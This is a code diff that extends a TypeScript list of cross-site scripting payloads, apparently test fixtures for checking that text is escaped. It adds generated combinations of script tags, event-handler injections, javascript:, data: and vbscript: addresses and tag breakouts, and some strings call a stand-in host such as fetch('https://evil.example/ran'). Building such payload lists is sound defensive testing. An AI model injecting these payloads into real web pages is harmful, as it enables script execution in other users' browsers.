@@ -1,7 +1,7 @@
 const attack = "alert(1);fetch('https://evil.example/ran')";
 
 /** Texts that are markup, script or an address of elsewhere as soon as somebody forgets that they are texts. */
-export const payloads: readonly string[] = [
+export const knownPayloads: readonly string[] = [
   `<script>${attack}</script>`,
   `<script src=https://evil.example/x.js></script>`,
   `"><script>${attack}</script>`,
@@ -44,4 +44,77 @@ export const payloads: readonly string[] = [
   "[x](javascript:alert(1)) ![x](https://evil.example/md.png)",
   `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
   `&lt;script&gt;alert(1)&lt;/script&gt;`,
+];
+
+const run = "alert(1)";
+const elements = [
+  "img",
+  "svg",
+  "body",
+  "input",
+  "video",
+  "audio",
+  "details",
+  "marquee",
+  "select",
+  "textarea",
+  "iframe",
+  "x",
+];
+const handlers = ["error", "load", "focus", "mouseover", "toggle", "animationstart", "pointerenter", "begin"];
+const addresses = [
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  "java\tscript:alert(1)",
+  "java&#10;script:alert(1)",
+  "&#106;avascript:alert(1)",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "vbscript:alert(1)",
+  "//evil.example/x",
+  "\\\\evil.example\\x",
+  "https:evil.example",
+];
+const carriers = [
+  "a href",
+  "iframe src",
+  "form action",
+  "object data",
+  "embed src",
+  "link rel=import href",
+  "use xlink:href",
+  "base href",
+];
+const breakouts = [
+  '">',
+  "'>",
+  "-->",
+  "]]>",
+  "</style>",
+  "</script>",
+  "</select>",
+  "</noscript>",
+  "</xmp>",
+  "`>",
+  "\u200b>",
+  "<!--",
+];
+const cores = [
+  `<script>${run}</script>`,
+  `<img src=x onerror=${run}>`,
+  "<link rel=stylesheet href=//evil.example/x.css>",
+];
+
+/** The same idea in every combination: who carries it, what sets it off, where it leads, what it breaks out of. */
+export const builtPayloads: readonly string[] = [
+  ...elements.flatMap((element) => handlers.map((event) => `<${element} src=x autofocus on${event}=${run}>`)),
+  ...elements.map((element) => `<${element}/onerror=${run}//src=x`),
+  ...carriers.flatMap((carrier) => addresses.map((address) => `<${carrier}="${address}">x`)),
+  ...breakouts.flatMap((breakout) => cores.map((core) => `${breakout}${core}`)),
+  ...cores.flatMap((core) => [
+    core.toUpperCase(),
+    core.replaceAll("<", "\u003c"),
+    encodeURIComponent(core),
+    `&amp;${core}`,
+  ]),
+  ...addresses.flatMap((address) => [`[x](${address})`, `url(${address})`, address]),
 ];
